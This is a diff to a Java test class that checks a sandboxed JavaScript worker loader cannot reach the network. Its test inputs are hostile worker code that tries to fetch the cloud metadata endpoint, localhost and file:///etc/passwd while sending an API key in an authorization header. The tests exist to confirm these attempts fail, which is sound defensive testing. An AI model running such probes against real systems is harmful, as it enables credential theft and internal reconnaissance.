@@ -2,6 +2,7 @@ package dev.workerloader.hostile;
 
 import dev.workerloader.Worker;
 import dev.workerloader.sandbox.GraalWorkerLoader;
+import org.assertj.core.api.InstanceOfAssertFactories;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
@@ -14,9 +15,9 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 /**
  * Attack: reaching the network. A worker without network access (no allowed hosts, no
- * outbound handler) gets nothing: {@code fetch} is either missing or rejects, and no other
- * network API exists. Metadata addresses, redirects to blocked hosts and credential echo
- * need {@code fetch()} and are listed as TODO in docs/security.md.
+ * outbound handler) gets nothing: {@code fetch} is either missing or rejects, and no
+ * other network API exists. Metadata addresses, redirects to blocked hosts and credential
+ * echo need {@code fetch()} and are listed as TODO in docs/security.md.
  *
  * @author Worker Loader team
  */
@@ -39,10 +40,10 @@ class EgressTests {
 	@ValueSource(strings = { "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:1/", "https://example.com/",
 			"file:///etc/passwd" })
 	void noNetworkWorkerGetsNothing(String url) {
-		try (Worker worker = loader.load(Hostile.code("default", "async run(p, env) {"
-				+ " if (typeof fetch !== 'function') { return 'no fetch'; }"
-				+ " try { const r = await fetch('" + url + "', { headers: { authorization: env.API_KEY } });"
-				+ " return 'reached ' + r.status; } catch (e) { return 'rejected'; } }"))) {
+		try (Worker worker = loader.load(Hostile.code("default",
+				"async run(p, env) {" + " if (typeof fetch !== 'function') { return 'no fetch'; }"
+						+ " try { const r = await fetch('" + url + "', { headers: { authorization: env.API_KEY } });"
+						+ " return 'reached ' + r.status; } catch (e) { return 'rejected'; } }"))) {
 			Object result = worker.getEntrypoint().call("run");
 			assertThat(result).isIn("no fetch", "rejected");
 			assertThat(String.valueOf(result)).doesNotContain(SECRET);
@@ -51,10 +52,11 @@ class EgressTests {
 
 	@Test
 	void noOtherNetworkApiExists() {
-		try (Worker worker = loader.load(Hostile.code("default", "run() { return ['XMLHttpRequest', 'WebSocket',"
-				+ " 'EventSource', 'navigator', 'Deno', 'Bun', 'connect', 'importScripts']"
-				+ ".filter((n) => typeof globalThis[n] !== 'undefined'); }"))) {
-			assertThat(worker.getEntrypoint().call("run")).asList().isEmpty();
+		try (Worker worker = loader.load(Hostile.code("default",
+				"run() { return ['XMLHttpRequest', 'WebSocket',"
+						+ " 'EventSource', 'navigator', 'Deno', 'Bun', 'connect', 'importScripts']"
+						+ ".filter((n) => typeof globalThis[n] !== 'undefined'); }"))) {
+			assertThat(worker.getEntrypoint().call("run")).asInstanceOf(InstanceOfAssertFactories.LIST).isEmpty();
 		}
 	}
 
